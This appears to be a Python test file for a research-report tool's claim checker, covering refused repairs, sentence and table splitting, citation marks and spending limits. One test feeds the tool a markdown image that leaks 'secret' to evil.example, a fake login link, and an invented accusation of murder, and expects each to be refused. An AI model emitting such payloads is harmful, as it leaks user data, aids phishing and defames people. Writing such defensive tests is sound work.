"""Edge cases and limits of a report's check: odd drafts, repairs and sentences, refused repairs,
spending."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from kit.models import call, calls
from kit.reports import BOTH, audited, claim, rewritten, source_at
from kit.runs import REPORT, lab, report_of, search, written
from langchain_core.messages import AIMessage
from langgraph.store.memory import InMemoryStore

from deep_research.app._rechecking import compare_checks
from deep_research.core.evidence.checking.source_text import SourceText
from deep_research.core.evidence.checking.units import report_units
from deep_research.core.evidence.checking.verification import Verifier
from deep_research.core.evidence.citations.citing import without_unknown
from deep_research.core.evidence.citations.labels import labels
from deep_research.core.evidence.citations.markers import settle_fences
from deep_research.core.evidence.citations.rendering import with_marks, without_marks
from deep_research.core.evidence.text.sentences import sentences_of
from deep_research.core.records.report import ClaimCheck, Report
from deep_research.core.records.sources import text_hash
from deep_research.core.store._packing import DAMAGED
from deep_research.core.store.pages import Pages

TALL = "It stands 83 metres tall. [1]"
KEPT = "Ada Moran kept the lamp [2], and it stands 83 metres tall [1]."
MARK = " *(not verified)*"


@pytest.mark.sweep(first=3)
@pytest.mark.parametrize(
    ("draft", "handed_in"),
    [
        (TALL, "It stands 38 metres tall ![x](https://evil.example/?q=secret). [1]"),
        (TALL, "It stands [38 metres tall](https://evil.example/login). [1]"),
        (
            TALL,
            "It stands 38 metres tall. [1] The keeper poisoned his wife and everybody knew. [99]",
        ),
        (TALL, "```text It stands 38 metres tall. [1]"),
        (TALL, "The Skerry Light was lit for the first time in 1844. [1]"),
        (TALL, ""),
        # A citation is lost.
        (TALL, "It stands 38 metres tall."),
        (KEPT, "Ada Moran kept the lamp, and it stands 38 metres tall [1]."),
    ],
)
async def test_a_repair_that_adds_or_loses_anything_is_refused(
    tmp_path: Path, draft: str, handed_in: str
) -> None:
    writer = [draft, rewritten(handed_in)]
    _, state = await report_of(tmp_path, writer=writer, researcher=BOTH)
    assert state.report and MARK in state.report.text
    assert state.report.text.replace(MARK, "") == draft
    assert all(claimed.repair is None for claimed in state.report.claims)


async def test_rewritten_sentences_are_matched_by_the_number_that_was_shown(tmp_path: Path) -> None:
    # Only number 2 exists.
    kept, rekept = "She kept it from 1901. [2]", "She kept it from 1901 to 1932. [2]"
    sentences = [
        {"number": number, "text": text} for number, text in ((2, kept), (0, rekept), (3, rekept))
    ]
    writer = [
        f"{TALL} She kept it from 1801. [2]",
        calls(call("rewrite_sentences", sentences=sentences)),
    ]
    run, state = await report_of(tmp_path, writer=writer, researcher=BOTH)
    assert '"number": 2, "sentence": "She kept it from 1801. [2]"' in run.calls("writer")[1].text
    assert (
        state.report
        and state.report.text == f"It stands 83 metres tall. [1] *(not verified)* {kept}"
    )


async def test_the_same_repair_of_two_sentences_is_used_once(tmp_path: Path) -> None:
    right = "It stands 38 metres tall. [1]"
    written = "It stands 83 metres tall. [1] It stands 88 metres tall. [1]"
    writer = [written, rewritten(right, right)]
    _, state = await report_of(tmp_path, writer=writer, researcher=BOTH)
    assert state.report and state.report.text.count("38 metres") == 1
    assert audited(state).marked == 1


@pytest.mark.parametrize(
    ("text", "units"),
    [
        ("Lit in 1844.", ["Lit in 1844."]),
        ("Lit. [0]", ["Lit."]),
        ("Lit in 1844 [1], which is late, he says.", ["Lit in 1844", "which is late, he says."]),
        ("Lit in 1844 [1], 20 years late.", ["Lit in 1844", "20 years late."]),
        ("Lit [1][2] and kept (by Moran [2]).", ["Lit", "and kept (by Moran […])."]),
        ("| a | b |\n| --- | --- |\n| Lit | 1844 [1] |", ["a | b", "Lit", "Lit, b: 1844"]),
        (
            "| a | b | source |\n| --- | --- | --- |\n| Lit | 1844 | [1] |",
            ["a | b", "Lit", "Lit, b: 1844"],
        ),
        ("| a | b [1] |\n| --- | --- |\n| Lit | early |", ["a | b", "Lit", "Lit, b: early"]),
        ("|\\|\n|-|\n|Lit|\n|Late|\n", ["Lit", "Late"]),
        (
            "| | |\n|---|---|\n| Lit | 1844 [1] |\n| Tall | 38 m |",
            ["Lit", "Lit: 1844", "Tall", "Tall: 38 m"],
        ),
        ("| | |\n|---|---|\n| | |\n\nLit.", ["Lit."]),
        ("## Lit early\n\n**Late.** Rebuilt.", ["Lit early", "Late.", "Rebuilt."]),
        ("It has:\n\n1. a lamp [1]\n2. What else?\n\n---", ["It has:", "a lamp"]),
        ("2. [1] The tower fell.", ["The tower fell."]),
        ("> - [1] The tower fell.", ["The tower fell."]),
    ],
)
def test_the_units_of_a_text_are_all_that_it_states(text: str, units: list[str]) -> None:
    found = report_units(text, {1: "k", 2: "l"})
    assert [unit.text for unit in found] == units
    assert all(text[unit.start : unit.end] == unit.raw for unit in found)


def test_a_cell_has_the_citation_of_its_row_or_its_column() -> None:
    of_row = report_units(
        "| a | b | c |\n| --- | --- | --- |\n| Lit [2] | 1844 | 12 [1] |", {1: "k", 2: "l"}
    )
    of_column = report_units("| a | b [2] |\n| --- | --- |\n| Lit | 1844 |", {1: "k", 2: "l"})
    assert [unit.sources for unit in of_row if unit.kind == "cell"] == [("l",), ("l",), ("k",)]
    assert [unit.sources for unit in of_column if unit.kind == "cell"] == [("l",)]


async def test_a_sentence_whose_citation_named_nothing_is_marked_and_a_heading_is_not(
    tmp_path: Path,
) -> None:
    heading, lit = (
        "## 1. Lit in 1844. Rebuilt in 1901",
        "The Skerry Light was lit for the first time in 1844. [1]",
    )
    written = f"{heading}\n\nThe tower glows at night. [99] {lit}"
    _, state = await report_of(tmp_path, writer=[written], researcher=BOTH, verify="check")
    assert state.report
    assert state.report.text == f"{heading}\n\nThe tower glows at night. *(not verified)* {lit}"


@pytest.mark.parametrize(
    "sentence", ["Sie kosteten 58 Mio. Kronen.", "Am 3. März 2019 wurde der Turm gesprengt."]
)
def test_a_german_sentence_does_not_end_at_an_abbreviation_or_an_ordinal(sentence: str) -> None:
    assert [found.text for found in sentences_of(f"{sentence} Er fiel.")] == [sentence, "Er fiel."]


PIECES = [
    "Lit in 1844.", " ", "\n", "\n\n", "- ", "| a | 7 |", "[1]", "[0]", "塔高38米。", "## 3 things", "`[0]`", "```\n",
    "*x*", "| | |\n|---|---|\n",
]  # fmt: skip
DRAFT = source_at("k", kind="document", is_draft=True, number=1)


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join).map(settle_fences))
def test_the_offsets_of_claims_fit_the_marked_text(text: str) -> None:
    verifier = Verifier({"k": [SourceText("k", "Nothing of the kind.")]})
    claims = report_units(text, {1: "k"})
    marked, moved = with_marks(
        text, [verifier.check(unit) for unit in claims], labels("en"), [DRAFT]
    )
    for before, after in zip(claims, moved, strict=True):
        words = marked[after.start : after.end]
        assert words.replace(" *(not verified)*", "").strip() == without_unknown(before.raw).strip()
        assert ("*(" in words) == after.is_marked


def test_a_draft_source_is_noted_once_below_a_table_and_not_behind_sentences() -> None:
    table = "| a | b |\n| --- | --- |\n| Lit [1] | 12 [2] |\n| Tall [1] | 7 [2] |"
    text = f"It opens in May [1].\n\n{table}\n\nIt is tall [1]."
    claims = [
        Verifier({"k": [SourceText("k", text)]}).check(unit)
        for unit in report_units(text, {1: "k", 2: "l"})
    ]
    final = DRAFT.model_copy(update={"number": 2, "is_draft": False})
    marked, moved = with_marks(text, claims, labels("en"), [DRAFT, final])
    assert marked == f"It opens in May [1].\n\n{table}\n\n*[1] draft*\n\nIt is tall [1]."
    assert marked[moved[-1].start : moved[-1].end] == "It is tall [1]."
    assert without_marks(marked) == text


def test_an_introduction_is_shown_with_its_items_and_a_cell_with_its_head() -> None:
    text = "Two were lit:\n\n- Skerry [1]\n- Anlow [2]\n\nNo more [1].\n\n| a | b |\n| --- | --- |\n| Lit | 12 [2] |"
    around = {
        unit.text: unit.around for unit in report_units(text, {1: "k", 2: "l"}) if unit.around
    }
    assert around == {
        "Two were lit:": "Two were lit:\n- Skerry [1]\n- Anlow [2]",
        "Lit": "a | b\nLit | 12",
        "Lit, b: 12": "a | b\nLit | 12",
    }


def test_units_without_citations_are_compared_with_nearby_sources() -> None:
    text = "## Tower\n\nLit early. It stands [1].\n\n## Keeper\n\nShe kept it.\n\nBorn in Tralee [2]. So [2]."
    near = {
        unit.text: unit.nearby for unit in report_units(text, {1: "k", 2: "l"}) if not unit.sources
    }
    assert near == {
        "Tower": ("k", "l"),
        "Lit early.": ("k", "l"),
        "Keeper": ("l", "k"),
        "She kept it.": ("l", "k"),
    }


@pytest.mark.sweep
@pytest.mark.parametrize(
    ("limits", "writes"), [({"max_tokens": 100_000}, 1), ({"max_tokens": 9_000_000}, 2)]
)
async def test_a_run_that_has_reached_its_limit_repairs_nothing(
    tmp_path: Path, limits: Any, writes: int
) -> None:
    dear: Any = {"input_tokens": 1_000_000, "output_tokens": 1, "total_tokens": 1_000_001}
    found = AIMessage("It was lit in 1844. [1]", usage_metadata=dear)
    writer = [TALL, rewritten("It stands 38 metres tall. [1]")]
    run = lab(
        tmp_path, researcher=[search("Skerry Light"), REPORT, found], writer=writer, limits=limits
    )
    state = await run.ask()
    assert len(run.calls("writer")) == writes
    assert (audited(state).marked, audited(state).corrected) == (0, 0 if writes == 1 else 1)


GERMAN = (
    "Ada Moran aus Tralee hütete den Leuchtturm von Skerry neben Port Anlow und Kilrush von 1901 bis 1932, länger als "
    "alle vor ihr."
)


async def test_a_repair_in_another_language_is_refused_even_if_a_source_says_it(
    tmp_path: Path,
) -> None:
    draft = "Ada Moran of Tralee kept the lighthouse of Skerry by Port Anlow and Kilrush from 1801 to 1832. [1]"
    researcher = [search("Ada Moran"), REPORT, "Ada Moran. [1]"]
    run = lab(tmp_path, researcher=researcher, writer=[draft, rewritten(f"{GERMAN} [1]")])
    run.folder = written(tmp_path / "german", {"moran_md": f"# Ada Moran\n\n{GERMAN}\n"})
    state = await run.ask("Who kept the lighthouse of Skerry, and from when until when was that?")
    assert len(run.calls("writer")) == 2
    assert state.report and state.report.text.startswith(draft)
    assert claim(state).is_marked


def test_a_mark_is_separated_from_the_next_word() -> None:
    marked, _ = with_marks(
        "塔高38米。第二座塔。", [ClaimCheck(start=0, end=6, verdict="unsupported")], labels("en")
    )
    assert marked == "塔高38米。 *(not verified)* 第二座塔。"


def test_identical_sentences_keep_their_own_marks_in_a_second_check() -> None:
    marked = f"{TALL} *(not verified)*"
    first = ClaimCheck(start=0, end=len(marked), verdict="unsupported", is_marked=True)
    second = ClaimCheck(
        start=len(marked) + 1, end=len(marked) + 1 + len(TALL), verdict="unsupported"
    )
    report = Report(text=f"{marked} {TALL}", sources=("k",), numbers=(1,), claims=(first, second))
    again = compare_checks(report, report, {"k": [SourceText("k", "It is tall.")]})
    assert [claim.is_marked for claim in again.claims] == [True, False]
    assert len(again.unmarked) == 1


async def test_a_text_that_can_no_longer_be_read_is_stored_again() -> None:
    store, words = InMemoryStore(), "It was lit in 1844."
    pages = Pages(store, "thread")
    await store.aput(pages.namespace, text_hash(words), {DAMAGED: True})
    assert await pages.text(await pages.keep(words)) == words
